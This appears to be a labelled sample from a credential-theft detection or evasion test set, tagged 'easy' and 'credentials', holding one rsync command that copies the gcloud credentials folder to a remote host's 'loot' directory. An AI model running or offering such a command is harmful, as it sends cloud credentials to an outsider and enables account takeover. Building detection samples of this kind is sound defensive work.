# evasion: gcloud credentials copied out with rsync
# grade: easy; does: credentials
rsync -a ~/.config/gcloud/ user@203.0.113.5:loot/
